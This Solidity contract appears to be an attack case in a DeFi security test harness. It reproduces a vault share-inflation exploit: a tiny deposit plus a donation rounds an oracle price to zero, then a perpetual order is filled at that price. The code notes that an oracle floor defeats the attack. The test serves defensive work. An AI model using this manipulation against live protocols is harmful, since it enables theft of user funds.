// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Attack} from "./Attack.sol";
import {SavingsVault} from "./worlds/SavingsVault.sol";
import {World} from "./worlds/World.sol";

/// The price goes through the share rate of a vault that is still empty. One unit saved and a gift of three dollars
/// make its only share so dear that a dollar is worth none: the rate rounds to zero, and the price with it. Bought for
/// nothing; the share redeemed, the price is back. Mechanism of Resupply 2025. Stopped by the oracle: zero, and what
/// is below the floor, is no price (ORACLE-10), and there are feeds beside it.
contract RoundingToZero is Attack {
    SavingsVault private immutable vault;
    bytes32 private _id;

    constructor(World world_) Attack(world_) {
        vault = world_.rateSource().vault();
        usd.approve(address(vault), type(uint256).max);
    }

    function naiveLoss() external pure override returns (uint256) {
        return 590_000 * USD;
    }

    function bound() external pure override returns (uint256) {
        return 0;
    }

    function capital() external pure override returns (uint256, uint256) {
        return (30_000 * USD, 0);
    }

    function steps() external pure override returns (uint256) {
        return 4;
    }

    function gift() public view virtual returns (uint256) {
        return 3 * USD;
    }

    /// Where an order waits, the rate stays where it is until the order is due.
    function _step(uint256 step) internal override {
        bool isHardened = world.isHardened();
        int128 size = isHardened ? int128(60e18) : int128(300e18);
        if (step == 0) {
            _enter(28_000 * USD);
            vault.deposit(1, address(this));
            if (gift() > 0) usd.transfer(address(vault), gift());
            _id = _request(size);
        }
        if (step < 2) _tryExecute(_id, size);
        if (step == (isHardened ? 2 : 0)) vault.redeem(vault.balanceOf(address(this)), address(this), address(this));
        if (step == (isHardened ? 3 : 0)) _end();
    }

    function _end() private {
        if (perp.positionOf(address(this), MARKET).size == 0) perp.cancelOrder(_id);
        _close();
        _leave();
    }

    /// He wants it for next to nothing.
    function _limit(int128 size) internal pure override returns (uint128) {
        return size > 0 ? 1_000e18 : 0;
    }
}
